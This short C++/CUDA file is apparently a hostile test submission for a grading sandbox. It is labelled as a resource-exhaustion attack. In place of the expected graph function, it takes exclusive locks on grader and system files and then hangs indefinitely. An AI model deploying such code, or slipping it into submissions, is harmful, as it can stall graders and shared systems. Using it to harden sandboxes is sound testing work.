// attack: exhaust
// root: resources
// what: locks all files that it can open, and keeps the locks
// list: 6 30
#include <fcntl.h>
#include <sys/file.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (const char* name : {"/in/graph.mtx", "/edges", "/broker", "/host", "/device", "/guard", "/usr", "/usr/bin/env", "/lib/x86_64-linux-gnu/libc.so.6", "/", "/proc/self/exe"}) {
    const int file = open(name, O_RDONLY);
    if (file >= 0) flock(file, LOCK_EX);
  }
  for (;;) pause();
}
